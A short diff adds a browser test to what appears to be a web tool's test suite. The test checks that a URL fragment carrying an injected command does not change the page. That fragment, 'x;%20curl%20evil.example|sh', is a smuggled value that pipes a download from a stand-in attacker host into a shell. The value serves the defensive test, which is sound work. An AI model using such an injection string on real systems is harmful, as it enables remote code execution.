@@ -214,6 +214,15 @@ def test_the_page_says_so_where_its_data_is_missing(page: Chrome, try_site: tupl
     page.get_log("browser")  # type: ignore[no-untyped-call] # the console names the failed request, as it should
 
 
+def test_the_address_brings_no_command_along(page: Chrome, try_site: tuple[Path, str]) -> None:
+    """An address that asks for an event by something that is no id changes nothing, and the page says so."""
+    page.get("about:blank")
+    page.get(f"{try_site[1]}#event=x;%20curl%20evil.example|sh")
+    wait_for(page, "something that is no id")
+    assert page.find_element("id", "try-event").get_property("value") == ""
+    assert page.find_element("css selector", "[data-part=command]").text == "signalbook validate payload.json"
+
+
 def test_an_address_can_ask_for_an_example_and_an_event(page: Chrome, try_site: tuple[Path, str]) -> None:
     """A link may lead to the page with an example shown, or with an event to check against."""
     page.get("about:blank")
